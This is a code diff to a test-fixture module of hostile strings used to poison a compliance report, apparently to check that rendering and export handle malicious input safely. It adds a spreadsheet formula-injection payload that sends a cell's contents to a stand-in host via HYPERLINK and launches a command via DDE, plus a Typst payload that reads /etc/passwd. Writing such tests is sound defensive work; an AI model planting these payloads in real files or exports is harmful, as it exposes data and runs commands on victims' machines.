@@ -22,6 +22,10 @@ XML_ILLEGAL = "\x00\x01\x08\x0b\x0c\x0e\x1f\ufffe\uffff\ud800 \udfff]]><![CDATA[
 MARKUP = "[bold red]PASS[/] [link=http://198.51.100.7]x[/link] [/nonsense] :warning: \\[x]"
 LINES = "first\r\nsecond\rthird\n\n| fourth |\tfifth"
 ZALGO = "Z" + "\u0301\u0327\u20dd" * 60
+FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"x");=cmd|\' /C calc\'!A0;+1+1;-2;@SUM(1)'
+TYPST = (
+    '#read("/etc/passwd") #panic("owned") $ 1/0 $ #{ let x = 1 } *bold* _it_ `raw` <label> @ref // gone /* gone */ = Heading \\ #sys.inputs'
+)
 BLOCK = "ZDR-RET-01 pass\rZDR-RET-01 fail\b\b\b\b"
 
 ALL = {
@@ -38,6 +42,8 @@ ALL = {
     "lines": LINES,
     "zalgo": ZALGO,
     "block": BLOCK,
+    "formula": FORMULA,
+    "typst": TYPST,
     "empty": "",
     "blank": " \t ",
 }
@@ -68,3 +74,12 @@ def poison(report: Report, text: str) -> Report:
     poisoned = _poison(report, text)
     assert isinstance(poisoned, Report)
     return poisoned
+
+
+def poison_words(report: Report, text: str) -> Report:
+    """The poisoned report with the ids and families of its controls as they were: they come from the catalogue, never from a target."""
+    poisoned = poison(report, text)
+    kept = [
+        new.model_copy(update={"id": old.id, "family": old.family}) for old, new in zip(report.controls, poisoned.controls, strict=True)
+    ]
+    return poisoned.model_copy(update={"controls": tuple(kept)})
